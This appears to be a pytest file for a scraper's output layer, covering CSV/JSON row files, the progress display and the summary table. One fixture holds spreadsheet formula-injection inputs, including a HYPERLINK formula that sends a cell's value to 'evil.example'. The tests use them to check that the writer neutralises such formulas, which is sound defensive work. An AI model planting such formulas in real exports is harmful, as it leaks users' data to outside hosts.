"""Row files, the progress display and the summary table, fed synthetic events."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from engine.events import (
    Event,
    LogEmitted,
    RowEmitted,
    RunFinished,
    RunStarted,
    StepFinished,
    StepStarted,
)
from engine.rows import Cells
from trawler.output import RowFileSink, rows_preview_table
from trawler.progress import ProgressSink, format_duration, summary_table

AT = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
ROWS: list[dict[str, Any]] = [
    {"title": "A Light in the Attic", "price": Decimal("51.77"), "tags": ["poetry", "kids"]},
    {"title": 'Say "hi", world', "stock": None, "price": 3.5},
    {"title": "line\nbreak", "meta": {"isbn": "123", "ok": True}, "seen": date(2025, 3, 1)},
]


def run_events(rows: list[dict[str, Any]], *, status: str = "succeeded") -> list[Event]:
    events: list[Event] = [
        RunStarted(name="books", renderer="browser", at=AT),
        StepStarted(step=1, node_id="open", node_type="navigate", url="https://x.test/", at=AT),
        StepFinished(
            step=1,
            node_id="open",
            node_type="navigate",
            status="succeeded",
            url="https://x.test/",
            duration_ms=120.0,
        ),
        StepStarted(step=2, node_id="items", node_type="extract", url="https://x.test/", at=AT),
    ]
    events += [RowEmitted(seq=i, data=r, node_id="items", step=2) for i, r in enumerate(rows, 1)]
    failed = status != "succeeded"
    events += [
        StepFinished(
            step=2,
            node_id="items",
            node_type="extract",
            status="failed" if failed else "succeeded",
            url="https://x.test/",
            duration_ms=80.0,
            rows=len(rows),
            error="Timeout 30000ms exceeded" if failed else None,
        ),
        RunFinished(
            status=status,  # type: ignore[arg-type]
            rows=len(rows),
            pages=1,
            steps=2,
            duration_ms=250.0,
            at=AT,
            error="step items failed" if failed else None,
        ),
    ]
    return events


async def feed(sink: Any, events: list[Event]) -> None:
    for event in events:
        await sink.emit(event)


async def test_csv_header_is_the_union_of_keys_lists_are_joined_objects_json(
    tmp_path: Path,
) -> None:
    path = tmp_path / "rows.csv"
    sink = RowFileSink(path)
    await feed(sink, run_events(ROWS))
    await sink.close()
    assert path.read_text(encoding="utf-8") == (
        "title,price,tags,stock,meta,seen\n"
        "A Light in the Attic,51.77,poetry; kids,,,\n"
        '"Say ""hi"", world",3.5,,,,\n'
        '"line\nbreak",,,,"{""isbn"": ""123"", ""ok"": true}",2025-03-01\n'
    )


FORMULAS: list[dict[str, Any]] = [
    {"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "price": -5, "note": "-5"},
    {"name": "+1 555 0100", "price": 2.5, "note": "@SUM(A1:A2)"},
    {"name": "\tcmd", "price": None, "note": "\r=1+2", "tags": ["-x", "y"]},
    {"name": "plain", "price": 0, "note": "a=b", "tags": [{"k": "=1"}], "deep": {"a": ["b"]}},
]


async def test_csv_neutralises_formulas_but_not_numbers(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    async with RowFileSink(path) as sink:
        await feed(sink, run_events(FORMULAS))
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows == [
        {
            "name": '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "price": "-5",  # a number, not text: left as it is
            "note": "'-5",
            "tags": "",
            "deep": "",
        },
        {"name": "'+1 555 0100", "price": "2.5", "note": "'@SUM(A1:A2)", "tags": "", "deep": ""},
        {"name": "'\tcmd", "price": "", "note": "'\r=1+2", "tags": "'-x; y", "deep": ""},
        {
            "name": "plain",
            "price": "0",
            "note": "a=b",
            "tags": '[{"k": "=1"}]',
            "deep": '{"a": ["b"]}',
        },
    ]


async def test_csv_keeps_formulas_and_joins_with_another_separator_when_asked(
    tmp_path: Path,
) -> None:
    path = tmp_path / "rows.csv"
    cells = Cells(keep_formulas=True, list_separator="\n")
    async with RowFileSink(path, cells) as sink:
        await feed(sink, run_events(FORMULAS))
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name"] for row in rows] == [r["name"] for r in FORMULAS]
    assert rows[2]["tags"] == "-x\ny"


async def test_jsonl_is_written_as_rows_arrive(tmp_path: Path) -> None:
    path = tmp_path / "out" / "rows.jsonl"
    sink = RowFileSink(path)
    events = run_events(ROWS)
    await feed(sink, events[:5])
    assert path.read_text(encoding="utf-8") == (
        '{"title": "A Light in the Attic", "price": "51.77", "tags": ["poetry", "kids"]}\n'
    )
    await feed(sink, events[5:])
    assert path.read_text(encoding="utf-8").splitlines()[1:] == [
        '{"title": "Say \\"hi\\", world", "stock": null, "price": 3.5}',
        '{"title": "line\\nbreak", "meta": {"isbn": "123", "ok": true}, "seen": "2025-03-01"}',
    ]


async def test_ndjson_is_jsonl(tmp_path: Path) -> None:
    path = tmp_path / "rows.ndjson"
    async with RowFileSink(path) as sink:
        rows: list[dict[str, Any]] = [
            {"a": datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)},
            {"b": "x\u2028y", "n": float("nan")},
        ]
        await feed(sink, run_events(rows))
    assert path.read_text(encoding="utf-8").splitlines() == [
        '{"a": "2025-01-02T03:04:05+00:00"}',
        '{"b": "x\\u2028y", "n": null}',
    ]


async def test_json_is_an_array_written_on_close(tmp_path: Path) -> None:
    path = tmp_path / "rows.json"
    sink = RowFileSink(path)
    await feed(sink, run_events(ROWS)[:-1])
    assert not path.exists()
    await sink.close()
    assert json.loads(path.read_text(encoding="utf-8")) == [
        {"title": "A Light in the Attic", "price": "51.77", "tags": ["poetry", "kids"]},
        {"title": 'Say "hi", world', "stock": None, "price": 3.5},
        {"title": "line\nbreak", "meta": {"isbn": "123", "ok": True}, "seen": "2025-03-01"},
    ]


@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl"])
async def test_a_failed_run_still_writes_its_rows(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"rows{suffix}"
    sink = RowFileSink(path)
    await feed(sink, run_events(ROWS[:1], status="failed"))
    assert sink.count == 1
    assert "A Light in the Attic" in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("suffix", [".csv", ".json", ".jsonl"])
async def test_close_writes_rows_when_the_run_never_finished(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"rows{suffix}"
    sink = RowFileSink(path)

    async def crash() -> None:
        async with sink:
            await feed(sink, run_events(ROWS[:2])[:6])
            raise RuntimeError("browser crashed")

    with pytest.raises(RuntimeError, match="browser crashed"):
        await crash()
    text = path.read_text(encoding="utf-8")
    assert "A Light in the Attic" in text
    assert "world" in text
    await sink.close()  # idempotent
    assert path.read_text(encoding="utf-8") == text


@pytest.mark.parametrize(("suffix", "content"), [(".csv", ""), (".json", "[]\n"), (".jsonl", "")])
async def test_no_rows_gives_an_empty_file(tmp_path: Path, suffix: str, content: str) -> None:
    path = tmp_path / f"rows{suffix}"
    async with RowFileSink(path) as sink:
        await feed(sink, run_events([]))
    assert path.read_text(encoding="utf-8") == content


def test_unknown_extension_is_refused_before_the_run(tmp_path: Path) -> None:
    path = tmp_path / "rows.txt"
    with pytest.raises(ValueError, match=r"rows\.txt.*\.csv, \.json, \.jsonl, \.ndjson"):
        RowFileSink(path)
    assert not path.exists()


def render(renderable: Any, *, width: int = 160) -> str:
    console = Console(file=io.StringIO(), width=width, color_system=None)
    console.print(renderable)
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def test_preview_table_shows_scraped_markup_literally() -> None:
    rows = [{"name": "[bold red]x[/]", "n": i, "gone": None} for i in range(15)]
    text = render(rows_preview_table(rows, limit=3))
    assert "first 3 of 15 rows" in text
    assert text.count("[bold red]x[/]") == 3
    assert "│ 2 │" in text
    assert "│ 3 │" not in text


async def test_progress_prints_plain_lines_off_a_terminal() -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=False, width=100)
    sink = ProgressSink(console)
    events = run_events(ROWS, status="failed")
    events.insert(4, LogEmitted(level="info", message="quiet", at=AT))
    events.insert(4, LogEmitted(level="warning", message="odd [/] markup", at=AT, node_id="items"))
    await feed(sink, events)
    await sink.close()
    lines = out.getvalue().splitlines()
    assert lines[0] == "run books (browser)"
    assert lines[1] == "step 1 ok open (navigate) 120 ms https://x.test/"
    assert lines[2] == "warning [items]: odd [/] markup"
    assert lines[3] == (
        "step 2 FAILED items (extract) 80 ms +3 rows https://x.test/: Timeout 30000ms exceeded"
    )
    assert len(lines) == 4
    assert (sink.pages, sink.rows) == (1, 3)


async def test_progress_runs_live_on_a_terminal() -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=100)
    sink = ProgressSink(console)
    events = run_events(ROWS)
    events.insert(4, LogEmitted(level="error", message="boom", at=AT))
    await feed(sink, events[:-1])
    assert "boom" in out.getvalue()
    await sink.close()
    await sink.close()
    await sink.emit(events[-1])  # after close: ignored


def test_summary_table_lists_failed_steps() -> None:
    events = run_events(ROWS, status="failed")
    steps = [e for e in events if isinstance(e, StepFinished)]
    finished = events[-1]
    assert isinstance(finished, RunFinished)
    text = render(summary_table(finished, steps))
    assert "failed" in text
    assert "step items failed" in text
    assert "2 (1 failed)" in text
    assert "step 2" in text
    assert "Timeout 30000ms exceeded" in text
    assert "250 ms" in text


def test_format_duration() -> None:
    assert [format_duration(ms) for ms in (12.4, 3200, 125_000, 3_720_000)] == [
        "12 ms",
        "3.2 s",
        "2 m 05 s",
        "1 h 02 m",
    ]
